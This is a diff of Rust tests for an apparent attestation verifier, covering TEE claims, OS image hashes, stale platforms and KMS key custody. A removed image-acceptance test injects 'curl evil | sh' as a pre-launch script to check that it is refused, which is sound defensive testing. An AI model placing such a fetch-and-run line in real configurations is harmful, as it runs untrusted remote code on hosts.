@@ -6,8 +6,9 @@ use cloister_evidence::RuntimeEvent;
 use cloister_verifier::TrustRoots;
 use serde_json::{Value, json};
 
-use super::service::{APP_ID, COMPOSE, IMAGE, Parts, Service, Time, custody, custody_of_secret};
+use super::service::{APP_ID, Parts, Service, Time, custody, custody_of_secret};
 use super::{Unverified, World};
+use crate::lab::machine::{image, image_hash};
 use crate::verification::Trust;
 
 #[tokio::test]
@@ -37,6 +38,8 @@ async fn an_honest_service_is_verified_and_its_session_says_how() {
     assert_eq!(read.claims.tee_attested.source, Some(ClaimSource::OperatorAsserted));
     assert_eq!(read.claims.extra["hardware"], Fact::Flag(false));
     assert_eq!(read.claims.tcb_up_to_date.status, ClaimStatus::Asserted);
+    assert_eq!(read.claims.os_known_good.status, ClaimStatus::Asserted);
+    assert_eq!(read.claims.extra["os_image_hash"], Fact::Text(image_hash(&image("kernel"))));
     assert_eq!(read.claims.serving_software_known_good.status, ClaimStatus::Asserted);
     assert_eq!(read.claims.model_weights_provenance.status, ClaimStatus::Unknown);
     assert_eq!(read.claims.extra["app_id"], Fact::Text(hex::encode(APP_ID.as_bytes())));
@@ -50,7 +53,7 @@ async fn an_honest_service_is_verified_and_its_session_says_how() {
 async fn a_stale_platform_is_told_not_hidden() {
     let world = World::new().await;
     {
-        let mut collateral = world.service.collateral.lock();
+        let mut collateral = world.service.machine.collateral.lock();
         collateral.status = "OutOfDate".to_owned();
         collateral.advisory_ids = vec!["INTEL-SA-1".to_owned()];
     }
@@ -81,40 +84,13 @@ async fn keys_of_a_host_and_of_every_host_are_pins() {
 }
 
 #[tokio::test]
-async fn custody_of_the_secret_behind_the_key_is_custody_of_the_key() {
+async fn the_key_that_is_vouched_for_may_be_named_once_more() {
     let world = World::new().await;
-    world.service.change(|parts| parts.custody = custody_of_secret());
+    let again = json!({"kms_public_key": hex::encode([0x81; 32])});
+    world
+        .service
+        .change(|parts| parts.custody = custody(&APP_ID, "aci.receipt.ed25519.v1", &[0x81; 32], &again));
     world.channel(&world.route()).await.unwrap();
-}
-
-#[tokio::test]
-async fn images_are_accepted_where_nothing_else_runs() {
-    let other = format!("sha256:{}", "2".repeat(64));
-    let images = |digests: &[&str]| json!({"accepted_subjects": [], "accepted_image_digests": digests});
-    let with = async |compose: &str, accepted: &Value| {
-        let world = World::new().await;
-        world.service.change(|parts| compose_is(parts, compose));
-        world.channel(&world.route_with(accepted)).await.map(drop)
-    };
-    with(COMPOSE, &images(&[IMAGE])).await.unwrap();
-    let refused = Err(Unverified::Failed("the measured application is not an accepted one".to_owned()));
-    assert_eq!(with(COMPOSE, &images(&[&other])).await, refused);
-    let second =
-        COMPOSE.replace("services:\\n", &format!("services:\\n  other:\\n    image: other@{other}\\n"));
-    assert_eq!(with(&second, &images(&[IMAGE])).await, refused);
-    with(&second, &images(&[IMAGE, &other])).await.unwrap();
-    let tagged = COMPOSE.replace("services:\\n", "services:\\n  other:\\n    image: other:latest\\n");
-    assert_eq!(with(&tagged, &images(&[IMAGE])).await, refused);
-    let script = COMPOSE.replace(r#""pre_launch_script":"""#, r#""pre_launch_script":"curl evil | sh""#);
-    assert_eq!(with(&script, &images(&[IMAGE])).await, refused);
-}
-
-/// Another compose document runs, and is measured honestly.
-fn compose_is(parts: &mut Parts, compose: &str) {
-    let hash = cloister_app_compose::ComposeHash::of(compose.as_bytes());
-    parts.compose = compose.to_owned();
-    parts.event("compose-hash").payload = hash.as_bytes().to_vec();
-    parts.mr_config_id[1..33].copy_from_slice(hash.as_bytes());
 }
 
 type Change = fn(&mut Parts);
@@ -130,7 +106,7 @@ fn remove(parts: &mut Parts, pointer: &'static str, member: &'static str) {
 }
 
 /// What is changed, how, and a part of the reason why that is not verified.
-const TAMPERED: [(&str, Change, &str); 36] = [
+const TAMPERED: [(&str, Change, &str); 38] = [
     ("status", |of| of.answer = Some(("404 Not Found", Vec::new())), "answered 404"),
     (
         "redirect",
@@ -233,6 +209,16 @@ const TAMPERED: [(&str, Change, &str); 36] = [
             let other = cloister_app_compose::AppId::from_bytes([1; 20]);
             of.custody = custody(&other, "aci.receipt.ed25519.v1", &[0x81; 32], &json!({}));
         },
+        "no accepted KMS root",
+    ),
+    (
+        "custody of another key of the same secret",
+        |of| of.custody = custody_of_secret(),
+        "no accepted KMS root",
+    ),
+    (
+        "custody that names another key than it is over",
+        |of| of.custody["keys"][0]["kms_public_key"] = json!("02".repeat(33)),
         "no accepted KMS root",
     ),
     (
